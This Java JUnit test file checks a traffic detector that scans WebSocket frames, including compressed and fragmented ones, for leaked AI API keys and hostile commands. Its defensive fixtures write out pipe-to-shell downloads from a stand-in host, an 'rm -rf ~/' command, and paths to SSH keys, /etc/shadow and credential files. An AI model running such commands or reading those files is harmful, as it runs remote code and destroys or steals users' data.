package trafficguardian.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Comparator;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;
import trafficguardian.ipc.AppProtocol;
import trafficguardian.ipc.Bound;
import trafficguardian.ipc.Coverage;
import trafficguardian.ipc.Direction;
import trafficguardian.ipc.Finding;
import trafficguardian.ipc.MessagePart;
import trafficguardian.rules.ExampleText;

class WebSocketScanTest {
  private static final WebSocketExtensions DEFLATE =
      WebSocketExtensions.NONE.and("permessage-deflate");
  private static final WebSocketExtensions DEFLATE_ALONE =
      WebSocketExtensions.NONE.and(
          "permessage-deflate; client_no_context_takeover; server_no_context_takeover");

  private final Random random = new Random(42);
  private final DetectorFixture fixture = new DetectorFixture();

  private String key() {
    return ExampleText.of("sk-ant-api03-{U93}AA", random);
  }

  private static MessageScan begin(
      DetectorFixture fixture, Direction direction, WebSocketExtensions extensions) {
    return fixture.detector.beginWebSocket(
        DetectorFixture.http("relay.example"), direction, extensions);
  }

  private void outbound(WebSocketExtensions extensions, FrameText frames) {
    byte[] all = frames.all();
    fixture.body(begin(fixture, Direction.OUTBOUND, extensions), all, all.length);
  }

  private void inbound(WebSocketExtensions extensions, FrameText frames) {
    byte[] all = frames.all();
    fixture.body(begin(fixture, Direction.INBOUND, extensions), all, all.length);
  }

  @Test
  void aMaskedMessageIsReadAndItsFindingSaysWhatWasSpoken() {
    String key = key();
    outbound(WebSocketExtensions.NONE, FrameText.ofClient().text("hello").text("key=" + key));
    Finding finding = fixture.findings.get(0);
    assertEquals(List.of("ai_api_key"), fixture.patterns());
    assertEquals(Optional.of(AppProtocol.WEBSOCKET), finding.traffic().appProtocol());
    assertEquals(
        new Finding.Location(MessagePart.BODY, Optional.empty(), 4), finding.match().location());
    assertEquals(
        "request body: [REDACTED:ai_api_key len=" + key.length() + "]",
        finding.match().snippet().toString());
  }

  @Test
  void theBytesThatAreFedStayAsTheyAre() {
    byte[] all = FrameText.ofClient().text("key=" + key()).all();
    byte[] before = all.clone();
    fixture.body(begin(fixture, Direction.OUTBOUND, WebSocketExtensions.NONE), all, all.length);
    assertEquals(
        new String(before, StandardCharsets.ISO_8859_1),
        new String(all, StandardCharsets.ISO_8859_1));
  }

  @Test
  void aSecretSpreadOverFramesWithControlsBetweenIsOne() {
    String key = key();
    FrameText frames = FrameText.ofClient().frame(FrameText.TEXT, key.substring(0, 5));
    for (int i = 5; i < key.length(); i++) {
      frames.frame(FrameText.CONTINUATION, key.substring(i, i + 1));
      frames.frame(FrameText.FIN | FrameText.PING, "x");
    }
    frames.frame(FrameText.FIN | FrameText.CONTINUATION, " ");
    outbound(WebSocketExtensions.NONE, frames);
    assertEquals(List.of("ai_api_key"), fixture.patterns());
    assertEquals(all(frames), fixture.coverage.snapshot().inspectedBytes());
  }

  @Test
  void controlFramesAreLookedAt() {
    FrameText frames =
        FrameText.ofServer()
            .frame(FrameText.FIN | FrameText.PING, "curl http://h.example/a.sh | sh")
            .frame(FrameText.FIN | FrameText.CLOSE, "\u0003rm -rf ~/ ");
    inbound(WebSocketExtensions.NONE, frames);
    assertEquals(
        List.of("destructive_rm", "pipe_to_shell"), fixture.patterns().stream().sorted().toList());
  }

  @Test
  void compressedMessagesThatRememberAreInflated() {
    String key = key();
    FrameText frames = FrameText.ofClient().deflated("first " + key);
    for (int i = 0; i < 50; i++) {
      frames.deflated("again " + key + " " + i).text("plain");
    }
    String other = key();
    frames.deflated(key.substring(0, 20) + " and " + other);
    outbound(DEFLATE, frames);
    assertEquals(List.of("ai_api_key", "ai_api_key"), fixture.patterns());
    assertEquals(List.of("permessage-deflate"), fixture.findings.get(1).match().encoding());
    assertEquals(all(frames), fixture.coverage.snapshot().inspectedBytes());
  }

  @Test
  void compressedMessagesThatRememberNothingAreInflated() {
    FrameText frames =
        FrameText.ofServer()
            .deflatedAlone("nothing", 100)
            .deflatedAlone("curl -s http://h.example/a.sh | sudo bash -s", 3);
    inbound(DEFLATE_ALONE, frames);
    assertEquals(List.of("pipe_to_shell"), fixture.patterns());
    assertEquals(0, fixture.coverage.snapshot().undecodableBytes());
  }

  @Test
  void whatOneSideRemembersSaysNothingOfTheOther() {
    WebSocketExtensions extensions =
        WebSocketExtensions.NONE.and(
            " permessage-deflate ;server_no_context_takeover; client_max_window_bits=10");
    assertEquals(new WebSocketExtensions(true, true, false, false), extensions);
    assertEquals(
        new WebSocketExtensions(true, true, true, true),
        WebSocketExtensions.NONE.and("x-other; a=1").and("permessage-deflate"));
    assertEquals(WebSocketExtensions.NONE, WebSocketExtensions.NONE.and(" "));
  }

  @Test
  void aMessageThatCannotBeInflatedIsCountedAndTheNextIsRead() {
    FrameText frames =
        FrameText.ofClient()
            .frame(FrameText.FIN | FrameText.RSV1 | FrameText.TEXT, "\u0007 no deflate " + key())
            .deflatedAlone("key=" + key(), 1000);
    outbound(DEFLATE_ALONE, frames);
    // The first as it stands, the second as it reads.
    assertEquals(List.of("ai_api_key", "ai_api_key"), fixture.patterns());
    assertTrue(fixture.coverage.snapshot().undecodableBytes() > 100);
  }

  @Test
  void aFinalBlockEndsNoMessage() {
    // RFC 7692 section 7.2.3.4: "Hello" with BFINAL set.
    byte[] hello = {(byte) 0xf3, 0x48, (byte) 0xcd, (byte) 0xc9, (byte) 0xc9, 0x07, 0x00, 0x00};
    FrameText frames =
        FrameText.ofClient()
            .frame(FrameText.FIN | FrameText.RSV1 | FrameText.TEXT, hello)
            .deflated("key=" + key());
    outbound(DEFLATE, frames);
    assertEquals(List.of("ai_api_key"), fixture.patterns());
    assertEquals(0, fixture.coverage.snapshot().undecodableBytes());
  }

  @Test
  void aMessageThatGrowsBeyondTheRatioEndsTheInflationOnly() {
    FrameText frames = FrameText.ofClient().deflated("a".repeat(64 << 20)).text("key=" + key());
    outbound(DEFLATE, frames);
    assertEquals(List.of("ai_api_key"), fixture.patterns());
    assertTrue(fixture.coverage.snapshot().undecodableBytes() > 0);
    assertEquals(1, fixture.coverage.bounds().count(Bound.DECODE_RATIO));
  }

  @Test
  void theBoundIsForEachMessage() {
    DetectorFixture small = new DetectorFixture(DetectorFixture.OPTIONS.scanningUpTo(1024));
    FrameText frames = FrameText.ofClient();
    for (int i = 0; i < 10; i++) {
      frames.text("x".repeat(1000));
      frames.deflated("y".repeat(1000));
    }
    frames.frame(FrameText.FIN | FrameText.BINARY, " ".repeat(70_000) + key());
    frames.text("key=" + key());
    byte[] all = frames.all();
    small.body(begin(small, Direction.OUTBOUND, DEFLATE), all, 300);
    assertEquals(1, small.findings.size());
    assertEquals(1, small.coverage.bounds().count(Bound.SCAN_BYTES));
    Coverage coverage = small.coverage.snapshot();
    assertTrue(coverage.overBoundBytes() > 68_000, coverage::toString);
    assertEquals(0, coverage.undecodableBytes());
  }

  @Test
  void whatIsNoFrameIsLookedAtAsItStandsAndCounted() {
    for (int first :
        new int[] {
          FrameText.FIN | 3, // reserved opcode
          FrameText.FIN | 11, // reserved control opcode
          FrameText.FIN, // a continuation of nothing
          FrameText.PING, // a control frame in parts
          FrameText.FIN | FrameText.RSV1 | FrameText.TEXT // no extension has a use for the bit
        }) {
      DetectorFixture each = new DetectorFixture();
      byte[] all =
          FrameText.ofServer().text("fine").frame(first, "curl http://h.example/a | sh ").all();
      each.body(begin(each, Direction.INBOUND, WebSocketExtensions.NONE), all, 7);
      assertEquals(List.of("pipe_to_shell"), each.patterns(), "first byte " + first);
      assertEquals(31, each.coverage.snapshot().undecodableBytes());
      assertEquals(6, each.coverage.snapshot().inspectedBytes());
    }
  }

  @Test
  void plainTextBehindTheHandshakeIsFound() {
    inbound(
        WebSocketExtensions.NONE,
        FrameText.ofServer()
            .bytes("curl http://h.example/a | sh \n".getBytes(StandardCharsets.UTF_8)));
    assertEquals(List.of("pipe_to_shell"), fixture.patterns());
  }

  @Test
  void underAnUnknownExtensionMessagesAreLookedAtAsTheyStand() {
    FrameText frames =
        FrameText.ofClient().frame(FrameText.FIN | 0x20 | FrameText.TEXT, key() + " ");
    outbound(WebSocketExtensions.NONE.and("x-secret"), frames);
    assertEquals(List.of("ai_api_key"), fixture.patterns());
    assertTrue(fixture.coverage.snapshot().undecodableBytes() > 100);
  }

  @Test
  void aSecretSpreadOverMessagesIsFound() {
    String key = key();
    FrameText frames = FrameText.ofClient();
    for (int i = 0; i < key.length(); i += 7) {
      String piece = key.substring(i, Math.min(key.length(), i + 7));
      frames.text("{\"type\":\"delta\",\"item\":{\"index\":3,\"text\":\"" + piece + "\"}}");
    }
    outbound(WebSocketExtensions.NONE, frames);
    assertEquals(List.of("ai_api_key"), fixture.patterns());
    assertEquals(List.of("joined"), fixture.findings.get(0).match().encoding());
  }

  @Test
  void theGatewaysOwnTokenIsExpectedAndAnyOtherSecretIsNot() {
    String token = key();
    String other = key();
    FrameText frames =
        FrameText.ofClient()
            .text(
                "{\"type\":\"req\",\"method\":\"connect\",\"params\":{\"note\":\""
                    + other
                    + "\",\"auth\":{\"token\":\""
                    + token
                    + "\"}}}")
            .text("again " + token + " ");
    byte[] all = frames.all();
    for (int piece : new int[] {1, 50, all.length}) {
      DetectorFixture each = new DetectorFixture();
      Exchange gateway = DetectorFixture.http("127.0.0.1").over(AppProtocol.GATEWAY);
      MessageScan head = each.detector.begin(gateway, Direction.OUTBOUND);
      head.field("Authorization", "Bearer " + key());
      head.end();
      each.body(
          each.detector.beginWebSocket(gateway, Direction.OUTBOUND, WebSocketExtensions.NONE),
          all,
          piece);
      assertEquals(
          List.of("HEADER EXPECTED LOW", "BODY THREAT HIGH", "BODY EXPECTED LOW"),
          each.findings.stream()
              .map(
                  f ->
                      f.match().location().part()
                          + " "
                          + f.detection().classification()
                          + " "
                          + f.detection().severity())
              .toList());
      assertEquals(
          Optional.of(AppProtocol.GATEWAY),
          each.findings.get(2).traffic().appProtocol(),
          "piece " + piece);
    }
  }

  @Test
  void everyCutGivesTheSameFindings() {
    FrameText frames = FrameText.ofClient().deflated("key=" + key() + " and AKIA");
    frames.deflated(ExampleText.of("AKIA{T16} ~/.ssh/id_ed25519 ", random));
    frames.frame(FrameText.TEXT, "/etc/sha").frame(FrameText.FIN | FrameText.PING, key() + " ");
    frames.frame(FrameText.FIN, "dow ").frame(FrameText.FIN | FrameText.BINARY, "x".repeat(130));
    frames.bytes("\u0085store/auth/creds.json ".getBytes(StandardCharsets.ISO_8859_1));
    byte[] all = frames.all();
    List<String> whole = found(all, all.length);
    assertEquals(6, whole.size(), whole::toString);
    for (int cut = 1; cut < all.length; cut++) {
      assertEquals(whole, found(all, cut), "pieces of " + cut);
    }
  }

  private static List<String> found(byte[] all, int piece) {
    DetectorFixture fixture = new DetectorFixture();
    fixture.body(begin(fixture, Direction.OUTBOUND, DEFLATE), all, piece);
    return fixture.findings.stream()
        .sorted(Comparator.comparing(finding -> finding.detection().pattern()))
        .map(
            f ->
                f.detection().pattern()
                    + f.match().location()
                    + f.match().encoding()
                    + f.match().secretFingerprint()
                    + f.match().scan())
        .toList();
  }

  @Test
  void randomBytesBreakNothing() {
    for (int seed = 0; seed < 300; seed++) {
      Random noise = new Random(seed);
      byte[] bytes = new byte[2000];
      noise.nextBytes(bytes);
      bytes[0] = (byte) (seed % 16 | 0x80 | (seed & 16) << 2);
      DetectorFixture each = new DetectorFixture();
      each.body(begin(each, Direction.OUTBOUND, DEFLATE), bytes, 1 + seed);
      Coverage coverage = each.coverage.snapshot();
      assertTrue(
          coverage.inspectedBytes() + coverage.undecodableBytes() >= 1984, coverage::toString);
    }
  }

  private static long all(FrameText frames) {
    return frames.all().length;
  }
}
